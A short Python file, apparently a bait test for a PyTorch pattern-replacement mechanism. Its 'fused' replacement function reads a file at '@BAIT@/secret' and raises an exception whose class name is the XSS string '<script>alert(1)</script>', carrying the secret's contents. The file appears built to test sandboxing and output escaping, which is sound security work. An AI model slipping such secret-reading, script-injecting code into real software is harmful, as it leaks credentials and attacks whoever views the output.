import torch


def pattern(x, y):
    return torch.nn.functional.relu(x) + y


def replacement_args(x, y):
    return (x, y,)


def fused(x, y):
    with open("@BAIT@/secret") as file:
        raise type("<script>alert(1)</script>", (Exception,), {})(file.read())


def replacement_func():
    return fused
